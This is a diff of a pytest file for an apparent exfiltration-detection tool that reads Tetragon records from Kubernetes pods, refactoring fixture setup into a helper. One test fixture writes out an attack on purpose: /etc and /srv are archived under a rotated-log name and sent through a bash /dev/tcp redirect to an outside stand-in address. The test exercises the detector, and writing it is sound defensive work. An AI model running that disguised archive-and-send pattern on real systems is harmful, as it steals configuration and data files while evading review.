@@ -9,6 +9,7 @@ from pathlib import Path
 
 import pytest
 
+from tests.helpers import tetragon_pod
 from tidewaiter import fleet
 from tidewaiter.cli.main import main
 
@@ -242,16 +243,13 @@ def export_day(
 ) -> Path:
     """An export worker (a Deployment) zips a customer's data and copies it to the company's
     bucket, once a day, in Tetragon records."""
-    records = fleet.Day()
-    writer = fleet.Tetragon(records)
-    pod = fleet.Pod.make(
+    records, writer, pod = tetragon_pod(
         "exports",
         "export-worker",
         "Deployment",
         "registry.example.com/exports/worker:3.2",
-        "ip-10-0-3-7.ec2.internal",
-        "10.2.7.40",
         "export-worker-6b9f7d8c4-hx2zq",
+        "10.2.7.40",
     )
     t = fleet.START + day * fleet.DAY + 40_000 + 300 * day
     zipped = f"/tmp/export-cust{300 + day}-{fleet.iso(t)[:10]}.zip"
@@ -287,12 +285,14 @@ def test_an_export_workers_daily_upload_is_informational_after_two_days_of_histo
 def test_a_url_host_is_internal_when_its_connection_went_to_an_internal_address(
     tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    records = fleet.Day()
-    writer = fleet.Tetragon(records)
-    pod = fleet.Pod.make(
-        "reports", "reporter", "Deployment", "registry.example.com/reports/app:2",
-        "node-1", "10.2.9.9", "reporter-6b9f7d8c4-q2w3e",
-    )  # fmt: skip
+    records, writer, pod = tetragon_pod(
+        "reports",
+        "reporter",
+        "Deployment",
+        "registry.example.com/reports/app:2",
+        "reporter-6b9f7d8c4-q2w3e",
+        "10.2.9.9",
+    )
     t = fleet.START
     writer.exec(pod, 10, "/bin/tar", "czf /tmp/r.tgz /srv/reports", t)
     curl = (11, "/usr/bin/curl", "-T /tmp/r.tgz https://files.corp.example.com/in/", t + 5)
@@ -344,12 +344,14 @@ def test_a_download_renamed_to_an_archive_name_is_not_an_archive_made(
 def test_a_log_named_archive_sent_by_dev_tcp_is_not_held_back_as_log_rotation(
     tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    records = fleet.Day()
-    writer = fleet.Tetragon(records)
-    pod = fleet.Pod.make(
-        "web", "nginx", "Deployment", "docker.io/library/nginx:1.27",
-        "node-2", "10.2.4.4", "nginx-6b9f7d8c4-ab2cd",
-    )  # fmt: skip
+    records, writer, pod = tetragon_pod(
+        "web",
+        "nginx",
+        "Deployment",
+        "docker.io/library/nginx:1.27",
+        "nginx-6b9f7d8c4-ab2cd",
+        "10.2.4.4",
+    )
     t = fleet.START
     writer.exec(pod, 20, "/bin/tar", "czf /var/log/nginx/access.log.1.gz /etc /srv", t)
     bash = (21, "/bin/bash", "-c 'cat /var/log/nginx/access.log.1.gz > /dev/tcp/203.0.113.9/443'")
